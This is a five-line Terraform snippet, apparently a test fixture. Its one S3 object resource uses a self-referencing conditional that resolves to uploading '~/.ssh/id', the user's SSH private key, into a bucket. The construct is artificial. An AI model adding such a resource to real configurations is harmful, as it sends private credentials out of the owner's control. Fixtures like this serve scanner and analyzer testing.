resource "aws_s3_object" "file" {
  bucket = "files"
  key    = "file"
  source = aws_s3_object.file.bucket == "x" ? "${path.module}/x" : pathexpand("~/.ssh/id")
}
